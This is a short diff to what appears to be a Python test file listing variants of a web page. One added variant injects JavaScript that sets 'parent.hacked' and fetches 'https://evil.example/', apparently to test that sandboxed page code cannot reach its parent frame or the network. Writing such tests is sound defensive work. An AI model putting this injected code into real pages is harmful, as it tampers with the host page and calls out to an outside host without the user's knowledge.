@@ -30,6 +30,9 @@ PAGE = (
 )
 PAGES = {
     "PAGE": PAGE,
+    "PAGE, that reaches out": PAGE.replace(
+        "await", 'try { parent.hacked = 1; } catch {}\nfetch("https://evil.example/");\nawait'
+    ),
     "PAGE, other code": PAGE.replace("await", "app.onteardown = () => ({});\nawait"),
     "PAGE, other words": PAGE.replace("<h1>Places", "<h1>Cities"),
     "PAGE, one id twice": PAGE.replace("<h1>", '<h1 id="out">'),
